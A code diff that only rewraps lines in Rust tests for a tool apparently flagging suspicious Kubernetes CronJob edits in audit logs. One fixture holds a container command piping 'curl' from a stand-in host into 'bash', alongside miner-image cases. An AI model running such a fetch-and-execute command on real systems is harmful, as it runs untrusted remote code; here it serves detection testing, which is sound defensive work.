@@ -288,7 +288,10 @@ fn next_steps_fit_what_became_of_the_cronjob() {
     assert!(steps.contains(&format!("containers[0].image {FINE}")), "{steps}");
     assert!(!steps.contains("delete cronjob"), "{steps}");
     let steps = next(&[create, evil.clone(), update(240, "argo", &whole(FINE))], "eve");
-    assert!(steps.contains("it runs something else by now, so look at it before you stop it; changed by: argo"), "{steps}");
+    assert!(
+        steps.contains("it runs something else by now, so look at it before you stop it; changed by: argo"),
+        "{steps}"
+    );
     assert!(!steps.contains("delete cronjob") && !steps.contains("patch cronjob"), "{steps}");
     let steps = next(&[evil], "eve");
     assert!(steps.contains("this dump does not tell") && !steps.contains("delete cronjob"), "{steps}");
@@ -304,8 +307,7 @@ fn the_gravest_of_a_verdict_comes_first_and_what_is_alike_is_folded() {
     let script = json!({"containers": [{"name": "c", "image": FINE, "command": ["sh", "-c", "curl -s https://x.example.net/p | bash"]}]});
     let mut piped = whole(FINE);
     piped["spec"]["jobTemplate"] = in_template(&script)["jobTemplate"].clone();
-    let mut events: Vec<Value> =
-        (0..9).map(|day| request(day * 1440, "update", "op@corp", &asked(&piped))).collect();
+    let mut events: Vec<Value> = (0..9).map(|day| request(day * 1440, "update", "op@corp", &asked(&piped))).collect();
     let place = json!({"resource": "cronjobs", "namespace": "kube-system", "name": "late"});
     let fine = json!({"resource": "cronjobs", "namespace": "kube-system", "name": "fine"});
     events.push(request(5000, "create", "eve", &json!({"objectRef": fine, "requestObject": whole(FINE)})));
@@ -341,9 +343,13 @@ fn a_session_without_history_is_told_from_its_user() {
         let user = json!({"username": "admin", "extra": {"sessionName": [session]}});
         request(minute, "update", "admin", &json!({"user": user, "requestObject": body}))
     };
-    let found = judged(&[by(0, "anna", &whole(FINE)), by(2000, "anna", &whole(FINE)), by(4000, "i-0abc", &whole(MINER))], &[]);
+    let found =
+        judged(&[by(0, "anna", &whole(FINE)), by(2000, "anna", &whole(FINE)), by(4000, "i-0abc", &whole(MINER))], &[]);
     let text = found["alerts"][0]["history"]["text"].as_str().unwrap();
-    assert!(text.starts_with("no CronJob write by session i-0abc of this user (other sessions: 2 writes; dump "), "{text}");
+    assert!(
+        text.starts_with("no CronJob write by session i-0abc of this user (other sessions: 2 writes; dump "),
+        "{text}"
+    );
 }
 
 /// What an earlier or later request proves leads to that one.
